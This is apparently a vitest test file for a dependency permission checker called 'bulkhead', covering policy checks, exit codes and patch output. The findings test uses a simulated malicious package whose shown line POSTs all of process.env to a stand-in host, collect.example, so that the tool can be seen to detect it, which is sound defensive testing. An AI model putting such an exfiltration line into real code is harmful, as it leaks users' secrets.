import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  type Files,
  HOSTILE_SHOUT,
  codeOf,
  commitAll,
  git,
  makeApp,
  makeRepository,
  read,
  readAll,
  run,
  writeFiles,
} from "./make-app.ts";

const OVERRIDE = "bulkhead/policy-override.json";

/** An application whose policy was right before `changes`. */
const makeChanged = (changes: Files): string => {
  const folder = makeApp();
  run("policy", folder, ["generate"]);
  writeFiles(folder, changes);
  return folder;
};

const HOSTILE = { "node_modules/shout/index.js": HOSTILE_SHOUT };

describe("clean: exit code 0", () => {
  test("a policy that was just generated", () => {
    const folder = makeChanged({});
    const before = readAll(folder);
    expect(run("policy", folder, ["check"])).toEqual({
      exitCode: 0,
      stdout: "",
      stderr: "bulkhead/policy.json is what the code asks for.\n",
    });
    expect(run("policy", folder, ["generate", "--check", "--quiet"])).toEqual({
      exitCode: 0,
      stdout: "",
      stderr: "",
    });
    expect(readAll(folder)).toEqual(before);
  });

  test("code that became unreadable and wants no more than before is shown all the same", () => {
    const names = "var _0x1a2b, _0x2b3c, _0x3c4d, _0x4d5e, _0x5e6f;\n";
    const app = makeApp();
    const file = "node_modules/shout/index.js";
    const folder = makeChanged({ [file]: `${names}${read(app, file)}` });
    const { exitCode, stderr } = run("policy", folder, ["check"]);
    expect(exitCode).toBe(0);
    expect(stderr).toContain("critical: greet>shout is written to be unreadable");
    expect(run("policy", folder, ["check", "--quiet"]).stderr).toBe("");
  });

  test("line ends of a Windows work tree", () => {
    const folder = makeChanged({});
    writeFiles(folder, {
      "bulkhead/policy.json": read(folder, "bulkhead/policy.json").replaceAll("\n", "\r\n"),
    });
    expect(run("policy", folder, ["check"]).exitCode).toBe(0);
  });

  test("an override whose entries all do something", () => {
    const folder = makeChanged({
      [OVERRIDE]: { resources: { greet: { globals: { "process.env.USER": false, fetch: true } } } },
    });
    expect(run("policy", folder, ["check"])).toMatchObject({ exitCode: 0, stdout: "" });
  });
});

describe("findings: exit code 1", () => {
  test("what the code asks for now, with its lines, and how to mend it; nothing is written", () => {
    const folder = makeChanged(HOSTILE);
    const before = readAll(folder);
    const result = run("policy", folder, ["check"]);
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toMatchInlineSnapshot(`
      "2 new powers (2 critical) in 1 package

      greet>shout 2.0.0
        critical  fetch (global)
                  network: sends and receives data, to and from anywhere
                  node_modules/shout/index.js:2:3
                    2 | fetch("https://collect.example/", { method: "POST", body: JSO…
                      | ^^^^^
        critical  process.env (global)
                  process & environment: reads every environment variable, secrets too
                  node_modules/shout/index.js:2:76
                    2 | …le/", { method: "POST", body: JSON.stringify(process.env) });
                      |                                               ^^^^^^^^^^^
      "
    `);
    expect(result.stderr).toMatchInlineSnapshot(`
      "BULKHEAD_POLICY_STALE  \`bulkhead/policy.json\` is not what the code asks for
        Review the difference, then run \`policy generate\` and commit the file.

      "
    `);
    expect(readAll(folder)).toEqual(before);
  });

  test("the same with generate --check", () => {
    const folder = makeChanged(HOSTILE);
    expect(run("policy", folder, ["generate", "--check"])).toEqual(
      run("policy", folder, ["check"]),
    );
  });

  test("a power that is asked for no longer", () => {
    const folder = makeChanged({ "node_modules/greet/index.js": "module.exports = () => 'hi';\n" });
    const result = run("policy", folder, ["check"]);
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain("No new powers");
    expect(codeOf(result)).toBe("BULKHEAD_POLICY_STALE");
  });

  test("a file that was written by hand and means the same", () => {
    const folder = makeChanged({});
    writeFiles(folder, {
      "bulkhead/policy.json": JSON.stringify(JSON.parse(read(folder, "bulkhead/policy.json"))),
    });
    const result = run("policy", folder, ["check"]);
    expect(result).toMatchObject({ exitCode: 1, stdout: "No change in meaning\n" });
    expect(codeOf(result)).toBe("BULKHEAD_POLICY_STALE");
  });

  test("an override with entries that do nothing, and names that nobody has", () => {
    const folder = makeChanged({
      [OVERRIDE]:
        '{\n  "resources": {\n    "greet": { "globals": { "fetch": false } },\n    "shout": { "globals": { "fetch": false } }\n  }\n}\n',
    });
    const result = run("policy", folder, ["check"]);
    expect(result).toMatchObject({ exitCode: 1, stdout: "" });
    expect(result.stderr).toMatchInlineSnapshot(`
      "BULKHEAD_POLICY_UNKNOWN_PACKAGE  \`bulkhead/policy-override.json\` names \`shout\`, which is no package of the application
        at bulkhead/policy-override.json:4:5
          4 |     "shout": { "globals": { "fetch": false } }
            |     ^^^^^^^
        Did you mean \`greet>shout\`? \`bulkhead map\` lists the names.

      BULKHEAD_OVERRIDE_OBSOLETE  \`bulkhead/policy-override.json\` has \`globals["fetch"]: false\` for \`greet\`, which changes nothing
        at bulkhead/policy-override.json:3:29
          3 |     "greet": { "globals": { "fetch": false } },
            |                             ^^^^^^^
        Remove the entry: what it grants is granted already, or what it denies is not asked for.

      BULKHEAD_OVERRIDE_OBSOLETE  \`bulkhead/policy-override.json\` has \`globals["fetch"]: false\` for \`shout\`, which changes nothing
        at bulkhead/policy-override.json:4:29
          4 |     "shout": { "globals": { "fetch": false } }
            |                             ^^^^^^^
        Remove the entry: what it grants is granted already, or what it denies is not asked for.

      "
    `);
  });
});

describe("trouble: exit code 2", () => {
  test.each<[string, Files, string[], string]>([
    ["no policy", {}, ["--policy", "other.json"], "BULKHEAD_POLICY_MISSING"],
    ["not JSON", { "bulkhead/policy.json": "" }, [], "BULKHEAD_POLICY_SYNTAX"],
    ["the wrong shape", { "bulkhead/policy.json": "[]" }, [], "BULKHEAD_POLICY_SHAPE"],
    ["a folder", { "folder/x": "" }, ["--policy", "folder"], "BULKHEAD_POLICY_UNREADABLE"],
    ["a broken dependency", { "node_modules/shout/index.js": "}" }, [], "BULKHEAD_MODULE_SYNTAX"],
    [
      "a patch that cannot be written",
      { ...HOSTILE, "x.patch/y": "" },
      ["--patch", "x.patch"],
      "BULKHEAD_WRITE_FAILED",
    ],
  ])("%s", (_name, changes, args, code) => {
    const folder = makeChanged(changes);
    const before = readAll(folder);
    const result = run("policy", folder, ["check", ...args]);
    expect(result.exitCode).toBe(2);
    expect(codeOf(result)).toBe(code);
    expect(readAll(folder)).toEqual(before);
  });
});

describe("--patch", () => {
  test("is what git apply takes, in a folder below the top too", () => {
    const top = makeApp();
    makeRepository(top);
    const folder = join(top, "apps/one two");
    writeFiles(
      folder,
      Object.fromEntries(Object.entries(readAll(top)).filter(([name]) => name !== ".gitignore")),
    );
    writeFiles(folder, {
      "node_modules/greet/package.json": read(top, "node_modules/greet/package.json"),
      "node_modules/greet/index.js": read(top, "node_modules/greet/index.js"),
      "node_modules/shout/package.json": read(top, "node_modules/shout/package.json"),
      ...HOSTILE,
    });
    expect(run("policy", folder, ["generate"]).exitCode).toBe(0);
    const wanted = read(folder, "bulkhead/policy.json");
    writeFiles(folder, {
      "bulkhead/policy.json": wanted.replace(/"fetch": true,?\s*/, "").replace(/,(\s*\})/, "$1"),
    });
    commitAll(top);
    const result = run("policy", folder, ["check", "--patch", "change.patch"]);
    expect(result.exitCode).toBe(1);
    git(top, "apply", join(folder, "change.patch"));
    expect(read(folder, "bulkhead/policy.json")).toBe(wanted);
    expect(run("policy", folder, ["check"]).exitCode).toBe(0);
  });

  test("is not written when there is nothing to patch", () => {
    const folder = makeChanged({});
    expect(run("policy", folder, ["check", "--patch", "change.patch"]).exitCode).toBe(0);
    expect(readAll(folder)).not.toHaveProperty("change.patch");
  });
});
